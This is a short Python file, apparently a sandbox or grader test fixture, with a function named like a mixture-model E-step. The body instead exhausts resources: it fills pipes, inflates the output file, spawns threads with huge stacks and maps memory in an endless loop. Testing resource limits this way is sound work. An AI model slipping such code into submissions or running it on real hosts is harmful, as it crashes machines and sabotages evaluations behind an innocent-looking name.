"""Fills memory that is not Python's: mappings, pipes, stacks and the output file."""

import mmap
import os
import threading

kept = []


def estep(X, weights, means, covariances):
    try:
        while True:
            reader, writer = os.pipe()
            os.set_blocking(writer, False)
            os.write(writer, bytes(1 << 20))
    except OSError:
        pass
    os.truncate(1, 32 << 20)
    threading.stack_size(256 << 20)
    try:
        for _ in range(32):
            threading.Thread(target=threading.Event().wait, daemon=True).start()
    except RuntimeError:
        pass
    while True:
        kept.append(mmap.mmap(-1, 1 << 20))
        kept[-1].write(bytes(1 << 20))
